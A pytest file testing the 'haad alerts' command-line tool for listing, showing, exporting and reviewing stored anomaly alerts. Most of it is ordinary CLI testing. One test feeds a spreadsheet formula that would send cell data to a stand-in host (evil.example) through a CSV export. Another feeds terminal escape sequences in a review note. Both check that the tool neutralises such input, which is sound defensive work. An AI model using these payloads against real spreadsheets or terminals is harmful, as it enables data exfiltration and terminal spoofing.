"""``haad alerts`` through Typer's CliRunner on a real database: output, files written, exit codes."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner, Result

from config.redaction import redact_url
from edge.store import AlertStore, NewAlert
from haad.cli.alerts import app as alerts_app
from haad.cli.alerts import parse_time

MakeAlert = Callable[..., NewAlert]  # the make_alert fixture
runner = CliRunner()


def run(*args: str, db: str | None = None) -> Result:
    """``haad alerts ARGS`` with HAAD_DB=db (unset when None)."""
    return runner.invoke(alerts_app, list(args), env={"HAAD_DB": db})


def said(result: Result) -> str:
    """Everything printed, with rich's panel borders and line wrapping undone (for matching messages)."""
    return " ".join(re.sub(r"[│╭╮╰╯─]", " ", result.output).split())


@pytest.fixture
def seeded(store_url: str, make_alert: MakeAlert) -> tuple[str, list[int]]:
    """Three alerts: cam1/assembly 3 h ago (closed), cam2/assembly 90 min ago, cam1/packing 30 min ago (open)."""
    now = datetime.now(UTC)
    with AlertStore(store_url) as store:
        ids = store.write_alerts(
            [
                make_alert(stream_id="cam1", profile="assembly", started_at=now - timedelta(hours=3)),
                make_alert(
                    stream_id="cam2",
                    profile="assembly",
                    started_at=now - timedelta(minutes=90),
                    k=2,
                    host="hall-b",
                ),
                make_alert(
                    stream_id="cam1", profile="packing", started_at=now - timedelta(minutes=30), ended_at=None
                ),
            ],
        )
    return store_url, ids


def test_list_prints_a_table_newest_first(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    result = run("list", db=db)
    assert result.exit_code == 0, result.output
    lines = result.output.strip().splitlines()
    assert lines[0].split()[:3] == ["ID", "STARTED", "(UTC)"]
    assert [int(line.split()[0]) for line in lines[1:]] == ids[::-1]
    assert lines[1].split()[3:9] == ["open", "-", "cam1", "-", "packing", "v2"]  # host -, person -
    assert "4.0s" in lines[2] and "hall-b" in lines[2] and "cam2" in lines[2]


def test_list_filters_by_the_host_that_raised_the_alert(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    result = run("list", "--host", "hall-b", "--json", db=db)
    assert result.exit_code == 0, result.output
    assert [(a["id"], a["host"]) for a in json.loads(result.output)] == [(ids[1], "hall-b")]


def test_list_filters_by_relative_time_stream_and_status_as_json(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded

    def listed(*args: str) -> list[int]:
        result = run("list", "--json", *args, db=db)
        assert result.exit_code == 0, result.output
        return [a["id"] for a in json.loads(result.output)]

    assert listed("--since", "2h") == [ids[2], ids[1]]
    assert listed("--since", "2h", "--until", "45m") == [ids[1]]
    assert listed("--stream", "cam1") == [ids[2], ids[0]]
    assert listed("--profile", "assembly", "--limit", "1") == [ids[1]]
    assert listed("--status", "confirmed") == []
    first = json.loads(run("list", "--json", "--stream", "cam2", db=db).output)[0]
    assert (first["profile_version"], first["model_version"], first["n_kept"]) == (2, "enc-3f9a2c", 2)
    assert datetime.fromisoformat(first["started_at"]).tzinfo is not None


def test_list_says_when_more_alerts_match_than_shown(seeded: tuple[str, list[int]]) -> None:
    db, _ = seeded
    result = run("list", "--limit", "2", db=db)
    assert result.exit_code == 0
    assert "showing 2 of 3" in result.output


@pytest.mark.parametrize("since", ["yesterday", "2 hours", "-5m", "2024-13-01"])
def test_unparsable_since_exits_2_with_a_clear_message(seeded: tuple[str, list[int]], since: str) -> None:
    db, _ = seeded
    result = run("list", "--since", since, db=db)
    assert result.exit_code == 2
    assert "Invalid value for '--since'" in said(result)
    assert "neither an ISO-8601 time" in said(result)


def test_parse_time_reads_relative_and_iso_times() -> None:
    now = datetime.now(UTC)
    for text, delta in (
        ("30m", timedelta(minutes=30)),
        ("2h", timedelta(hours=2)),
        ("1.5d", timedelta(days=1.5)),
    ):
        assert abs(parse_time(text) - (now - delta)) < timedelta(seconds=5)
    assert parse_time("2024-05-01T13:00:00") == datetime(2024, 5, 1, 13, tzinfo=UTC)  # naive = UTC
    assert parse_time("2024-05-01T15:00:00+02:00") == datetime(2024, 5, 1, 13, tzinfo=UTC)
    assert parse_time("2024-05-01T13:00:00Z") == datetime(2024, 5, 1, 13, tzinfo=UTC)


def test_show_prints_the_score_moment_by_moment_pooled_and_all_of_it_as_json(
    store_url: str, make_alert: MakeAlert
) -> None:
    line = np.stack([np.arange(100) * 0.25, np.where(np.arange(100) == 57, 3.0, 1.0)], axis=1)
    with AlertStore(store_url) as store:
        [alert_id] = store.write_alerts([make_alert(timeline=line)])
    result = run("show", str(alert_id), db=store_url)
    assert result.exit_code == 0, result.output
    assert (
        "score timeline (each window's score at the moment it is about; 100 moments, shown in 40 rows: "
        "consecutive ones pooled, each row the highest score of its group; --json has all" in result.output
    )
    rows = re.findall(r"^\s*(\d+\.\d\d)\s+(\d\.\d{3})", result.output.split("score timeline")[1], re.M)
    assert len(rows) == 40 and ("14.25", "3.000") in rows  # pooled to 40 rows, the peak kept
    as_json = json.loads(run("show", str(alert_id), "--json", db=store_url).output)
    assert np.array_equal(np.array(as_json["timeline"]), line)


def test_show_prints_details_and_a_summary_of_each_window(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    with AlertStore(db) as store:
        stored = store.get_alert(ids[1])
    result = run("show", str(ids[1]), db=db)
    assert result.exit_code == 0, result.output
    assert re.search(rf"^\s+id: {ids[1]}$", result.output, re.M)
    assert re.search(r"^\s+stream_id: cam2$", result.output, re.M)
    assert "stored windows (2 of 4)" in result.output
    as_json = json.loads(run("show", str(ids[1]), "--json", db=db).output)
    assert as_json["id"] == ids[1] and len(as_json["windows"]) == 2
    assert stored.windows is not None and stored.window_scores is not None
    for w, frames, score in zip(as_json["windows"], stored.windows, stored.window_scores, strict=True):
        assert w["frames"] == 60 and w["score"] == pytest.approx(score)
        step = np.linalg.norm(np.diff(frames, axis=0), axis=-1)
        assert w["motion"] == pytest.approx(float(step.mean()), rel=1e-5)


def test_list_and_show_name_the_person_of_a_multi_person_camera(
    sqlite_url: str, make_alert: MakeAlert
) -> None:
    with AlertStore(sqlite_url) as store:
        [alert_id] = store.write_alerts([make_alert(stream_id="ward", person=4, box=(0.5, 0.1, 0.75, 0.9))])
    lines = run("list", db=sqlite_url).output.strip().splitlines()
    assert lines[0].split()[6] == "PERSON" and lines[1].split()[5:7] == ["ward", "4"]
    shown = run("show", str(alert_id), db=sqlite_url).output
    assert re.search(r"^\s+person: 4$", shown, re.M)
    as_json = json.loads(run("show", str(alert_id), "--json", db=sqlite_url).output)
    assert (as_json["person"], as_json["box"]) == (4, [0.5, 0.1, 0.75, 0.9])


def test_show_prints_the_persons_box_and_the_others_in_view_for_a_reader_and_raw_as_json(
    sqlite_url: str, make_alert: MakeAlert
) -> None:
    # An operator read (0.4123456789012345, ...) and unlabelled [19, 0.1, ...] lists
    box = (0.4123456789012345, 0.2218765432109876, 0.4701234567890123, 0.5098765432101234)
    others = ((19, (0.1, 0.2, 0.3, 0.4)), (24, (0.61234567, 0.1, 0.7, 0.55)))
    with AlertStore(sqlite_url) as store:
        ids = store.write_alerts(
            [make_alert(person=21, box=box, others=others), make_alert(person=22), make_alert()]
        )
    shown = run("show", str(ids[0]), db=sqlite_url).output
    assert re.search(
        r"^\s+box: x 0\.412-0\.470, y 0\.222-0\.510 \(fractions of the frame's width, height\)$", shown, re.M
    ), shown
    assert re.search(
        r"^\s+others: 19 \(x 0\.100-0\.300, y 0\.200-0\.400\), 24 \(x 0\.612-0\.700, y 0\.100-0\.550\)$",
        shown,
        re.M,
    ), shown
    # alone in view on a multi-person camera; a single-person frontend (person 0) knows of no others
    alone, single = (run("show", str(i), db=sqlite_url).output for i in ids[1:])
    assert re.search(r"^\s+others: none in view$", alone, re.M) and re.search(r"^\s+box: -$", alone, re.M)
    assert re.search(r"^\s+others: -$", single, re.M)
    as_json = json.loads(run("show", str(ids[0]), "--json", db=sqlite_url).output)
    assert as_json["box"] == list(box)
    assert as_json["others"] == [[19, 0.1, 0.2, 0.3, 0.4], [24, 0.61234567, 0.1, 0.7, 0.55]]


@pytest.mark.parametrize("n", [1, 5, 8, 40, 41])
def test_show_says_why_the_timeline_has_more_moments_than_windows_or_rows(
    sqlite_url: str, make_alert: MakeAlert, n: int
) -> None:
    # An open alert of 5 windows said "8 moments": the timeline goes on past its last hot window,
    # which n_windows (and its stored-windows table) does not; past 40 moments, rows are pooled.
    line = np.stack([np.arange(n) * 0.5, np.linspace(0.5, 2.0, n)], axis=1)
    with AlertStore(sqlite_url) as store:
        [alert_id] = store.write_alerts([make_alert(timeline=line, ended_at=None, n_windows=5)])
    out = run("show", str(alert_id), db=sqlite_url).output.split("score timeline")[1]
    rows = re.findall(r"^\s*(\d+\.\d\d)\s+(\d\.\d{3})", out, re.M)
    header = " ".join(out.split("\n\n")[0].split(":\nT (s)")[0].split())
    assert len(rows) == min(n, 40) and f"; {n} moments" in header
    assert ("more than its 5 windows: the cold ones after its last hot window too" in header) == (n > 5)
    assert ("shown in 40 rows: consecutive ones pooled" in header) == (n > 40), header


@pytest.mark.parametrize("n", [20, 200])
def test_show_says_where_the_timeline_has_a_hole_in_its_stream(
    sqlite_url: str, make_alert: MakeAlert, n: int
) -> None:
    """An alert that waited across a hole in its stream (no frames, edge/episodes.py): its rows went on
    across it as if scores were known there (pooled rows too: one group over both sides)."""
    t = np.arange(n) * 0.25
    t[n // 2 :] += 4.0  # 4 s without frames: the points either side 4.25 s apart
    line = np.stack([t, np.linspace(0.5, 2.0, n)], axis=1)
    with AlertStore(sqlite_url) as store:
        [alert_id] = store.write_alerts([make_alert(timeline=line)])
    out = run("show", str(alert_id), db=sqlite_url).output.split("score timeline")[1]
    a, b = t[n // 2 - 1], t[n // 2]
    said_hole = f"no frames from {a:.2f} to {b:.2f} (a hole in the stream: no score known)"
    assert out.count("no frames") == 1 and said_hole in out, out
    rows = re.findall(r"^\s*(\d+\.\d\d)\s+\d\.\d{3}|(no frames)", out, re.M)
    at = rows.index(("", "no frames"))
    assert float(rows[at - 1][0]) <= a and float(rows[at + 1][0]) >= b  # between the rows either side


def test_show_of_an_unknown_id_exits_1_with_a_clear_message(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    missing = max(ids) + 100
    result = run("show", str(missing), db=db)
    assert result.exit_code == 1
    assert f"error: no alert with id {missing}" in result.output


def test_export_writes_json_lines_csv_and_replayable_windows(
    seeded: tuple[str, list[int]], tmp_path: Path
) -> None:
    db, ids = seeded
    out = tmp_path / "alerts.jsonl"
    result = run("export", "--out", str(out), "--stream", "cam1", "--windows", str(tmp_path / "win"), db=db)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["id"] for r in rows] == [ids[2], ids[0]]
    assert rows[0]["ended_at"] is None and rows[1]["status"] == "new"
    with AlertStore(db) as store:
        for alert_id in (ids[2], ids[0]):
            stored = store.get_alert(alert_id)
            assert stored.windows is not None and stored.window_times is not None
            assert stored.window_scores is not None
            with np.load(tmp_path / "win" / f"{alert_id}.npz") as z:
                assert np.array_equal(z["windows"], stored.windows) and z["windows"].dtype == np.float32
                assert np.array_equal(z["window_times"], stored.window_times)
                assert np.array_equal(z["window_scores"], stored.window_scores)
    assert sorted(p.name for p in (tmp_path / "win").iterdir()) == sorted(
        f"{i}.npz" for i in (ids[0], ids[2])
    )

    result = run("export", "--out", str(tmp_path / "all.csv"), db=db)
    assert result.exit_code == 0, result.output
    with (tmp_path / "all.csv").open(newline="") as f:
        table = list(csv.DictReader(f))
    assert [int(r["id"]) for r in table] == ids[::-1]
    assert table[1]["stream_id"] == "cam2" and float(table[1]["peak_score"]) == 1.8


def test_export_to_an_unknown_extension_exits_2(seeded: tuple[str, list[int]], tmp_path: Path) -> None:
    db, _ = seeded
    result = run("export", "--out", str(tmp_path / "alerts.xlsx"), db=db)
    assert result.exit_code == 2
    assert "the extension must be .jsonl or .csv" in said(result)
    assert not (tmp_path / "alerts.xlsx").exists()


def test_review_sets_status_and_note(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    result = run("review", str(ids[0]), "--status", "confirmed", "--note", "ladder left in aisle 3", db=db)
    assert result.exit_code == 0, result.output
    assert run("review", str(ids[1]), "--status", "dismissed", db=db).exit_code == 0
    confirmed = json.loads(run("list", "--json", "--status", "confirmed", db=db).output)
    assert [(a["id"], a["note"]) for a in confirmed] == [(ids[0], "ladder left in aisle 3")]
    with AlertStore(db) as store:
        assert store.get_alert(ids[1]).status == "dismissed"
        assert store.count(status="new") == 1


def test_review_rejects_an_unknown_id_or_status(seeded: tuple[str, list[int]]) -> None:
    db, ids = seeded
    missing = max(ids) + 1
    result = run("review", str(missing), "--status", "dismissed", db=db)
    assert result.exit_code == 1
    assert f"no alert with id {missing}" in result.output
    result = run("review", str(ids[0]), "--status", "maybe", db=db)
    assert result.exit_code == 2
    assert "Invalid value for '--status'" in said(result)
    # options of --normal given with --status were quietly ignored
    result = run("review", str(ids[0]), "--status", "dismissed", "--scope", "all", "-y", db=db)
    assert result.exit_code == 2 and "--scope, --yes go(es) with --normal" in said(result)
    with AlertStore(db) as store:
        assert store.get_alert(ids[0]).status == "new"


def test_db_option_overrides_the_environment(seeded: tuple[str, list[int]], tmp_path: Path) -> None:
    db, ids = seeded
    result = runner.invoke(
        alerts_app, ["list", "--json", "--db", db], env={"HAAD_DB": "sqlite:///nowhere.db"}
    )
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.output)) == len(ids)


def test_a_missing_sqlite_file_exits_1_and_is_not_created(tmp_path: Path) -> None:
    path = tmp_path / "typo.db"
    result = run("list", db=f"sqlite:///{path}")
    assert result.exit_code == 1
    assert f"no alert database at {path}" in result.output
    assert not path.exists()


def test_an_unsupported_database_url_exits_2(tmp_path: Path) -> None:
    result = run("list", "--db", "mysql://root@localhost/alerts")
    assert result.exit_code == 2
    assert "unsupported database 'mysql'" in said(result)


def test_alerts_is_a_subcommand_of_haad() -> None:
    from haad.cli import app

    result = runner.invoke(app, ["alerts", "--help"])
    assert result.exit_code == 0
    assert all(cmd in result.output for cmd in ("list", "show", "export", "review"))


def test_csv_export_never_hands_a_spreadsheet_a_formula(
    seeded: tuple[str, list[int]], tmp_path: Path
) -> None:
    url, ids = seeded
    note = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    assert run("review", str(ids[0]), "--status", "dismissed", "--note", note, db=url).exit_code == 0
    out = tmp_path / "alerts.csv"
    assert run("export", "--out", str(out), db=url).exit_code == 0
    with out.open() as f:
        notes = {row["id"]: row["note"] for row in csv.DictReader(f)}
    assert notes[str(ids[0])] == "'" + note


def test_a_store_password_this_host_cannot_read_is_one_line_not_a_traceback(
    tmp_path: Path, make_alert: MakeAlert, monkeypatch: pytest.MonkeyPatch
) -> None:
    from edge.alert_outbox import AlertOutbox

    monkeypatch.delenv("HAAD_TEST_NOPE", raising=False)
    config = tmp_path / "edge.yaml"
    config.write_text(
        "store: {url: 'postgresql://haad@127.0.0.1:5432/test', password: {env: HAAD_TEST_NOPE}}\n"
    )
    result = run("list", "--config", str(config))
    assert result.exit_code == 1, result.output
    assert result.output == "error: store.password: environment variable HAAD_TEST_NOPE is not set\n"
    outbox = AlertOutbox(tmp_path / "alert-outbox.db")  # a stopped daemon's (state_dir: the config's folder)
    outbox.put([(1, make_alert())])
    outbox.close()
    result = run("deliver", "--config", str(config))
    assert result.exit_code == 1 and "HAAD_TEST_NOPE is not set; 1 alert(s) still wait in" in said(result)


def test_prune_refuses_a_missing_sqlite_file_and_does_not_create_it(tmp_path: Path) -> None:
    path = tmp_path / "typo.db"
    result = run("prune", db=f"sqlite:///{path}")
    assert result.exit_code == 1 and f"no alert database at {path}" in result.output
    assert not path.exists()


def test_an_id_beyond_the_sql_integer_is_bad_usage_not_a_database_error(
    seeded: tuple[str, list[int]],
) -> None:
    """PostgreSQL refuses a number its integer column cannot hold: that was a traceback."""
    db, _ = seeded
    for args in (["show", "99999999999"], ["review", "2147483648", "--status", "confirmed"]):
        result = run(*args, db=db)
        assert result.exit_code == 2 and "Invalid value for 'ID'" in said(result), result.output


def test_review_records_the_os_user_by_default_and_refuses_a_reviewer_the_column_cannot_hold(
    seeded: tuple[str, list[int]],
) -> None:
    """--help promised the OS user, a status review recorded nobody; PostgreSQL refused a name over
    128 characters with a traceback."""
    import getpass

    db, ids = seeded
    assert run("review", str(ids[0]), "--status", "confirmed", db=db).exit_code == 0
    result = run("review", str(ids[1]), "--status", "confirmed", "--reviewer", "r" * 129, db=db)
    assert result.exit_code == 2 and "at most 128 characters" in said(result), result.output
    with AlertStore(db) as store:
        assert store.get_alert(ids[0]).reviewed_by == getpass.getuser()
        assert store.get_alert(ids[1]).status == "new"


def test_review_without_a_note_keeps_the_alerts_note(seeded: tuple[str, list[int]]) -> None:
    """A review without --note erased the note an earlier one gave (the bulk API kept it)."""
    db, ids = seeded
    assert run("review", str(ids[0]), "--status", "confirmed", "--note", "ladder left", db=db).exit_code == 0
    assert run("review", str(ids[0]), "--status", "dismissed", db=db).exit_code == 0
    with AlertStore(db) as store:
        a = store.get_alert(ids[0])
    assert (a.status, a.note) == ("dismissed", "ladder left")


def test_export_windows_skips_alerts_whose_windows_retention_dropped_and_says_so(
    seeded: tuple[str, list[int]], tmp_path: Path
) -> None:
    """It stopped at the first such alert with an AssertionError."""
    from config.store import RetentionConfig
    from edge.store.retention import prune

    db, ids = seeded
    with AlertStore(db) as store:
        assert prune(store, RetentionConfig(windows_days=0.0001)).windows_dropped == 2  # the open one stays
    result = run("export", "--out", str(tmp_path / "a.jsonl"), "--windows", str(tmp_path / "win"), db=db)
    assert result.exit_code == 0, result.output
    assert "(not those of 2: dropped by retention)" in result.output
    assert [p.name for p in (tmp_path / "win").iterdir()] == [f"{ids[2]}.npz"]
    assert len((tmp_path / "a.jsonl").read_text().splitlines()) == 3


@pytest.mark.parametrize("since", ["9999-12-31T23:59:59-01:00", "99999999d"])
def test_a_since_out_of_range_exits_2_not_with_a_traceback(seeded: tuple[str, list[int]], since: str) -> None:
    db, _ = seeded
    result = run("list", "--since", since, db=db)
    assert result.exit_code == 2 and "is out of range (years 1 to 9999 in UTC)" in said(result), result.output


def test_show_escapes_control_characters_a_note_could_drive_the_terminal_with(
    seeded: tuple[str, list[int]],
) -> None:
    """A note typed on the web page reached the reviewer's terminal raw: an escape sequence in it could
    retitle or clear the terminal, or hide text."""
    db, ids = seeded
    with AlertStore(db) as store:
        store.set_status(ids[0], "confirmed", "ok \x1b]0;owned\x07 \x1b[2J\rfake", reviewer="web")
    result = run("show", str(ids[0]), db=db)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\r" not in result.output
    assert "note: ok \\x1b]0;owned\\x07 \\x1b[2J\\rfake" in result.output


@contextmanager
def immutable(path: Path) -> Iterator[None]:
    """``path`` cannot be written while the block runs, even by root (``chattr +i``: a copy an
    operator may read but not change); skips where the attribute cannot be set."""
    import subprocess

    made = subprocess.run(["chattr", "+i", str(path)], capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"cannot make {path} immutable ({made.stderr.strip() or 'no chattr'})")
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=False)


@pytest.fixture
def read_only_log(tmp_path: Path, make_alert: MakeAlert) -> Iterator[str]:
    """A SQLite alert log with one alert whose file cannot be written."""
    path = tmp_path / "ro.db"
    with AlertStore(f"sqlite:///{path}") as store:
        store.write_alerts([make_alert()])
    with immutable(path):
        yield f"sqlite:///{path}"


def test_a_read_only_sqlite_log_lists_and_a_write_to_it_is_one_line_not_a_traceback(
    read_only_log: str, tmp_path: Path
) -> None:
    listed = run("list", "--json", db=read_only_log)
    assert listed.exit_code == 0 and len(json.loads(listed.output)) == 1, listed.output
    assert run("export", "--out", str(tmp_path / "a.jsonl"), db=read_only_log).exit_code == 0
    for args in (["review", "1", "--status", "confirmed"], ["prune"]):
        result = run(*args, db=read_only_log)
        assert result.exit_code == 1, result.output
        assert result.output.startswith(
            f"error: alert log {read_only_log}: OperationalError: attempt to write a readonly database"
        ), result.output
        assert "Traceback" not in result.output and "[SQL:" not in result.output


def test_review_normal_on_a_read_only_log_is_one_line_not_a_traceback(tmp_path: Path) -> None:
    """Marking normal reads the log, re-embeds, then writes to it: the write failing was a SQLAlchemy
    traceback with its SQL, where --status said it in one line."""
    from tests.edge.review.review_helpers import seed

    path = tmp_path / "alerts.db"
    (tmp_path / "profiles").mkdir()
    seeded = seed(f"sqlite:///{path}", tmp_path / "profiles")
    config = tmp_path / "edge.yaml"
    config.write_text(f"store: {{url: '{seeded.url}'}}\nprofiles_dir: '{seeded.profiles}'\n")
    with immutable(path):
        result = run(
            "review", str(seeded.ids[0]), "--normal", "--scope", "camera", "--yes", "--config", str(config)
        )
    assert result.exit_code == 1, result.output
    assert result.output.splitlines()[-1] == (
        f"error: alert log {seeded.url}: OperationalError: attempt to write a readonly database"
    ), result.output
    assert "Traceback" not in result.output and "[SQL:" not in result.output


def test_a_limit_beyond_what_sql_can_count_means_all_of_them(
    seeded: tuple[str, list[int]], tmp_path: Path
) -> None:
    """`--limit 99999999999999999999` (all, please) was a traceback on SQLite (OverflowError) and a
    DataError on PostgreSQL (bigint out of range); no log holds more alerts than ids, MAX_ID."""
    db, ids = seeded
    huge = "99999999999999999999"
    listed = run("list", "--json", "--limit", huge, db=db)
    assert listed.exit_code == 0 and len(json.loads(listed.output)) == len(ids), listed.output
    out = tmp_path / "all.jsonl"
    exported = run("export", "--out", str(out), "--limit", huge, db=db)
    assert exported.exit_code == 0 and len(out.read_text().splitlines()) == len(ids), exported.output


def test_a_password_in_the_url_is_never_shown_in_an_error_or_the_stores_url(pg_url: str) -> None:
    """libpq also takes the password as a query parameter (`?password=`): that one was printed in full,
    and so was an unparsable URL."""
    import socket

    with socket.socket() as s:  # a port nothing listens on: the server is down
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    for url, code in (
        (f"postgresql://haad@127.0.0.1:{port}/alerts?password=hunter2&sslmode=disable", 1),
        (f"postgresql://haad:hunter2@127.0.0.1:{port}/alerts?sslpassword=hunter2", 1),
        ("postgres:/haad:hunter2@db.example/alerts", 2),
    ):
        result = run("list", "--db", url)
        assert result.exit_code == code and "hunter2" not in result.output, result.output
    # trust auth ignores them; the daemon's logs show its config's URL, haad alerts and serve the store's
    with AlertStore(pg_url + "&password=hunter2&sslpassword=hunter2&sslmode=prefer") as store:
        for shown in (store.url, redact_url(store.config.url)):
            assert "hunter2" not in shown and "password=***" in shown and "sslmode=prefer" in shown, shown


def test_deliver_to_a_log_a_newer_haad_upgraded_says_so_and_keeps_the_outbox(
    tmp_path: Path, make_alert: MakeAlert
) -> None:
    """A fleet mid-upgrade: this host's haad is older than the shared log's schema. `deliver` said
    only "alert log unreachable (SchemaTooNew)", as if the server were down."""
    import sqlite3

    from edge.alert_outbox import AlertOutbox

    db = tmp_path / "alerts.db"
    AlertStore(f"sqlite:///{db}").close()
    with sqlite3.connect(db) as raw:
        raw.execute("UPDATE alembic_version SET version_num = '0099'")
    config = tmp_path / "edge.yaml"
    config.write_text(f"store: {{url: 'sqlite:///{db}'}}\n")
    outbox = AlertOutbox(tmp_path / "alert-outbox.db")
    outbox.put([(1, make_alert())])
    outbox.close()
    result = run("deliver", "--config", str(config))
    assert result.exit_code == 1, result.output
    assert "revision 0099, newer than this haad" in said(result) and "upgrade haad here" in said(result)
    assert "1 alert(s) still wait in" in said(result)


def test_deliver_says_on_stderr_what_it_set_aside_and_where_and_exits_3(tmp_path: Path) -> None:
    # The outbox's line went wherever logging was set up (here pytest's handler, elsewhere nowhere)
    # and deliver exited 0, as if all had been delivered.
    from edge.alert_outbox import AlertOutbox, awaiting_recovery
    from tests.edge.test_outbox_unreadable_rows import spoil, state

    config = tmp_path / "edge.yaml"
    config.write_text(
        f"streams: []\nstore: {{url: 'sqlite:///{tmp_path}/alerts.db'}}\nstate_dir: {tmp_path}\n"
    )
    outbox = tmp_path / "alert-outbox.db"
    box = AlertOutbox(outbox)
    box.put([(1, state("good", closed=True)), (2, state("bad", closed=True))])
    box.close()
    spoil(outbox, "bad", "fields_not_json")
    result = run("deliver", "--config", str(config))
    assert result.exit_code == 3, result.output
    assert result.stdout == f"delivered 1 alert(s) from {outbox}\n"
    [side] = awaiting_recovery(outbox)
    stderr = " ".join(result.stderr.split())
    assert "1 alert state(s) in the alert outbox" in stderr and "cannot be read" in stderr
    assert f"moved as they were to {side}" in stderr and "'bad'" in stderr
    assert stderr.endswith(f"1 file(s) beside the alert outbox {outbox} hold alert states not delivered "
                           f"unless recovered by hand {HOW_TO_RECOVER}, then removed: {side}")  # fmt: skip
    with AlertStore(f"sqlite:///{tmp_path}/alerts.db") as store:
        assert [a.episode_key for a in store.list_alerts()] == ["good"]


HOW_TO_RECOVER = (
    "(a damaged one: sqlite3 FILE .recover; an unreadable one: sqlite3 FILE 'SELECT * FROM outbox'; "
    "a carried one is taken in by the next start)"
)


@pytest.mark.parametrize("outbox_there", [True, False])
def test_deliver_names_the_files_earlier_runs_set_aside_and_exits_3_until_they_are_recovered(
    tmp_path: Path, make_alert: MakeAlert, outbox_there: bool
) -> None:
    """Files set aside at an earlier start or deliver (the daemon's /health names them) still hold
    alerts: deliver delivered the rest, said nothing of them and exited 0, as if nothing waited."""
    from edge.alert_outbox import AlertOutbox

    config = tmp_path / "edge.yaml"
    config.write_text(
        f"streams: []\nstore: {{url: 'sqlite:///{tmp_path}/alerts.db'}}\nstate_dir: {tmp_path}\n"
    )
    outbox = tmp_path / "alert-outbox.db"
    if outbox_there:
        box = AlertOutbox(outbox)
        box.put([(1, make_alert())])
        box.close()
    aside = [
        tmp_path / "alert-outbox.db.damaged-20261201T101010.000001Z",
        tmp_path / "alert-outbox.db.unreadable-20261202T101010.000002Z",
    ]
    for p in aside:
        p.write_bytes(b"states to recover")
    result = run("deliver", "--config", str(config))
    assert result.exit_code == 3, result.output
    assert result.stdout.startswith("delivered 1" if outbox_there else "no outbox"), result.stdout
    stderr = " ".join(result.stderr.split())
    assert stderr == (f"2 file(s) beside the alert outbox {outbox} hold alert states not delivered unless "
                      f"recovered by hand {HOW_TO_RECOVER}, then removed: {aside[0]}, {aside[1]}")  # fmt: skip
    assert all(p.read_bytes() == b"states to recover" for p in aside)  # left for the human
    for p in aside:  # recovered and removed: nothing waits
        p.unlink()
    result = run("deliver", "--config", str(config))
    assert result.exit_code == 0 and not result.stderr, result.output
